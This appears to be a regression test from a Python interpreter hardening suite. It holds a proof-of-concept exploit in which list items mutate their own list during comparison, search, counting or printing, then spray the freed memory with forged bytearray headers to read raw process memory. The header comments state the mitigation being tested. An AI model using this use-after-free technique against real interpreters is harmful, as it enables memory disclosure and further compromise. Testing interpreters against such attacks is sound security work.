# Tries: a board program whose items change their list while it is compared, searched, counted or printed: freed memory, filled with objects of its own making, would be read as items.
# Ends: no memory is given back while such a method runs, and the collector keeps all to which C code points.
### ATTACK
import gc
import struct

kept, seen, ours = [], [], []


def view(address, size):
    """An array as it lies in memory (type, kind, length, address), and where these words lie."""
    words = bytearray(struct.pack("<IIII", id(bytearray), 1, size, address))
    ours.append(words)
    return id(words) + 16


false = struct.pack("<I", view(0x08048000, 64))


def fill(*sizes):
    gc.collect()
    kept.append([bytearray(false * size) for size in sizes for _ in range(20)])
    del kept[:-3]


def look(one):
    if type(one) is bytearray:
        seen.append(bytes(one[:64]))


class Item:
    def __eq__(self, other):
        look(other)
        if len(values) == 64:
            values.extend(values)
            fill(64, 68)
        return type(other) is Item

    def __repr__(self):
        self == self
        return "Item"

    def __lt__(self, other):
        return self == other


for use in (
    lambda: values == others,
    lambda: others == values,
    lambda: values < others,
    lambda: 7 in values,
    lambda: values.count(7),
    lambda: values.index(7),
    lambda: repr(values),
    lambda: min(values),
):
    values = [Item() for _ in range(64)]
    others = [Item() for _ in range(64)]
    try:
        use()
    except ValueError:
        pass
if seen:
    print("reads the process", seen[0])
kept = seen = values = others = None
### END
### BASE
